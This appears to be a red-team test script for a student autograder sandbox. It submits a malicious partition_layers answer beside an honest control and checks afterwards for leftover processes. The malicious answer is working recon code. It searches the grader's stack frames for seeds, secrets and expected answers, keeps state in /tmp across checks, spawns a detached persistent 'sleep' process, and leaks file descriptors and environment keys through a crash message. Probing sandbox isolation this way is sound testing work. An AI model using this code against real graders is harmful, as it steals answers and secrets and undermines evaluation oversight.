"""a01 (ordinary user): round 26's new ground, the one child per check that runs every call of the student's code.
ps1's partition_layers, called by the hidden checks in the observer's shared child, (1) walks the call stack of
that child (sys._getframe) and lists every frame's function and local names, looking for anything besides the
calls' own arguments (a drawn seed, the observer's channel, expected answers), (2) counts its calls in the child
and across checks through a file in the observer sandbox's /tmp, (3) starts a setsid'd grandchild that sleeps 600 s
and looks, at the next check, whether the one of the previous check is still alive, (4) lists the child's open
descriptors and environment keys, then raises with all of it (the crash message comes back in the graded cell).
Honest control beside it. After grading, looks on the host for any process of uid 65534 still running 'sleep'."""
import os, sys, subprocess, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from u26 import *

ANSWER = r'''
def partition_layers(costs, k):
    import sys, os, json, time
    info = {}
    f = sys._getframe(1); frames = []
    while f is not None and len(frames) < 40:
        loc = f.f_locals
        frames.append(f.f_code.co_name + "(" + ",".join(sorted(loc)[:12]) + ")")
        for name, v in list(loc.items()):
            if any(w in name.lower() for w in ("seed", "secret", "expect", "answer", "channel", "key")):
                info.setdefault("interesting", []).append((f.f_code.co_name, name, repr(v)[:80]))
            if name == "calls" and isinstance(v, list):
                info["calls_seen"] = len(v)
        f = f.f_back
    info["frames"] = frames[:15]
    g = globals(); g["_n"] = g.get("_n", 0) + 1; info["calls_in_child"] = g["_n"]
    path = "/tmp/.a01state"
    try:
        st = json.load(open(path))
    except Exception:
        st = {"checks": 0, "pids": []}
    if g["_n"] == 1:
        st["checks"] += 1
        alive = [p for p in st["pids"] if os.path.exists(f"/proc/{p}")]
        info["grandchildren_alive_from_earlier_checks"] = alive
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "600"])
            os._exit(0)
        os.waitpid(pid, 0)
        time.sleep(0.2)
        st["pids"] = [int(p) for p in os.listdir("/proc") if p.isdigit() and open(f"/proc/{p}/comm").read().strip() == "sleep"]
        json.dump(st, open(path, "w"))
    info["checks_counted"] = st["checks"]
    fds = {}
    for fd in os.listdir("/proc/self/fd"):
        try:
            fds[fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            pass
    info["fds"] = fds
    info["env"] = sorted(os.environ)
    info["uid"] = os.getuid()
    raise RuntimeError("RECON " + json.dumps(info, default=str))
'''

dest = course("a01", {("honest", "ps1_memory"): honest("ps1_memory"),
                      ("mallory", "ps1_memory"): notebook("ps1_memory", overrides={"partition_layers": ANSWER})})
grade(dest, env=CANARY_ENV)
report(dest)
s = scores(dest)
cell_outputs(dest, "mallory", "ps1_memory", {"partition_layers_optimal", "partition_layers_bad_input"})
time.sleep(1)
left = subprocess.run(["pgrep", "-u", "65534", "-a", "sleep"], capture_output=True, text=True).stdout
print("host: sleep processes of uid 65534 after grading:", left or "none")
cleanup(dest)
